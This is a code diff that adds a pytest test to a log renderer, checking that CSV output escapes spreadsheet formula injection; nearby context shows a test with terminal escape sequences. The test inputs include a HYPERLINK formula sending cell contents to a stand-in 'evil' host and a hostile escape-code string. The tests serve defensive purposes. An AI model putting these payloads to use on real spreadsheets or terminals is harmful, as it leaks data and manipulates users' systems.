@@ -43,6 +43,15 @@ def test_a_reader_sees_time_level_component_and_message_in_columns() -> None:
     )
 
 
+@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", " ="])
+@pytest.mark.parametrize("field", ["component", "message"])
+def test_a_spreadsheet_runs_nothing_of_what_a_component_wrote(begin: str, field: str) -> None:
+    text = f'{begin}HYPERLINK("http://evil/?"&A1)'
+    head, render = renderer("csv", color=False, width=None)
+    (row,) = csv.DictReader(io.StringIO(f"{head}\n{render(entry(**{field: text}))}\n", newline=""))
+    assert row[field] == f"'{text}"
+
+
 @pytest.mark.parametrize("output", ["pretty", "logfmt", "json", "csv"])
 def test_nothing_that_a_component_wrote_reaches_the_terminal_as_a_command(output: str) -> None:
     nasty = "\x1b]0;owned\x07\x1b[2J\r\x9b31m\u202egnp"
